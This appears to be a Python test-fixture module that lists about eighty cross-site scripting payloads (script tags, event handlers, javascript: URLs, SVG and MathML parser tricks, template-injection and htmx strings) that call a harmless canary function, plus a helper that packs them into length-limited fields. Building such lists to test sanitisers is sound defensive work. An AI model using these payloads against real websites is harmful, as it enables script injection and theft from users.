"""What attackers write into a text so that a browser runs it. Each calls ``canary`` with its number."""

from __future__ import annotations

_WRITTEN = r"""
<script>canary(N)</script>
<script src="data:text/javascript,canary(N)"></script>
</title><script>canary(N)</script>
</textarea><script>canary(N)</script>
</script><script>canary(N)</script>
</style><script>canary(N)</script>
</noscript><script>canary(N)</script>
--><script>canary(N)</script>
]]><script>canary(N)</script>
<ScRiPt>canary(N)</sCrIpT>
<script/x>canary(N)</script>
<script>canary(N)//
<<script>canary(N)//<</script>
<img src=x onerror=canary(N)>
<img src=x onerror="canary(N)"
<img/src/onerror=canary(N)>
<img src="x`" onerror=canary(N)>
"><img src=x onerror=canary(N)>
'><img src=x onerror=canary(N)>
`><img src=x onerror=canary(N)>
" onmouseover="canary(N)" x="
' onmouseover='canary(N)' x='
" autofocus onfocus="canary(N)
' autofocus onfocus='canary(N)
x onfocus=canary(N) autofocus tabindex=1
" style="animation-name:x" onanimationstart="canary(N)
<svg onload=canary(N)>
<svg/onload=canary(N)>
<svg><script>canary(N)</script></svg>
<svg><script href="data:,canary(N)"/></svg>
<svg><animate onbegin=canary(N) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:canary(N)>
<svg><a xlink:href="javascript:canary(N)"><text y=9>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x onload=canary(N)>#x">
<svg><foreignObject><iframe onload=canary(N)>
<math><mtext><table><mglyph><style><img src onerror=canary(N)>
<math href="javascript:canary(N)">x</math>
<svg></p><style><a id="</style><img src=1 onerror=canary(N)>">
<noscript><p title="</noscript><img src=x onerror=canary(N)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary(N) src>">
<body onload=canary(N)>
<details open ontoggle=canary(N)>x</details>
<input autofocus onfocus=canary(N)>
<video><source onerror=canary(N)></video>
<audio src=x onerror=canary(N)></audio>
<iframe srcdoc="<script>parent.canary(N)</script>">
<iframe src="javascript:parent.canary(N)">
<object data="javascript:canary(N)"></object>
<embed src="javascript:canary(N)">
<a href="javascript:canary(N)">x</a>
<a href="&#106;avascript:canary(N)">x</a>
<a href="java\tscript:canary(N)">x</a>
<a href="data:text/html,<script>parent.canary(N)</script>">x</a>
javascript:canary(N)
JaVaScRiPt:canary(N)
[x](javascript:canary(N))
![x](x" onerror="canary(N))
<meta http-equiv=refresh content="0;url=javascript:canary(N)">
<base href="javascript:/a/-canary(N)///">
<link rel=stylesheet href="data:text/css,*{color:red}" onload=canary(N)>
<style>@import "javascript:canary(N)";</style>
<style onload=canary(N)></style>
<p style="background:url(javascript:canary(N))">
{{constructor.constructor('canary(N)')()}}
{{ ''.__class__.__mro__ }}{% print(canary(N)) %}
${canary(N)}#{canary(N)}<%= canary(N) %>
"};canary(N);//
';canary(N);//
","x":"</script><script>canary(N)</script>
\u2028canary(N)\u2029//
%{customdata}<a href="javascript:canary(N)">x</a><extra></extra>
<b>x</b><br><sub onclick=canary(N)>
&lt;img src=x onerror=canary(N)&gt;
&lt;script&gt;canary(N)&lt;/script&gt;
+ADw-script+AD4-canary(N)+ADw-/script+AD4-
<x hx-on:load="canary(N)" hx-get="/">
<div data-hx-on--load="canary(N)" hx-vals='js:{a:canary(N)}' hx-trigger=load hx-get=/>
"""
PAYLOADS = [
    line.replace("canary(N)", f"canary({number})")
    .replace("\\u2028", "\u2028")
    .replace("\\u2029", "\u2029")
    .replace("\\t", "\t")
    for number, line in enumerate(filter(None, _WRITTEN.split("\n")))
]


def packed(start: int, most: int) -> str:
    """As many payloads, from that one on, as a field of that length holds; at least a part of the first."""
    text = ""
    for number in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + number) % len(PAYLOADS)]
        if text and len(text) + len(payload) + 1 > most:
            continue
        text = f"{text} {payload}".strip(" ") if len(payload) <= most else text
    return (text or PAYLOADS[start % len(PAYLOADS)])[:most]
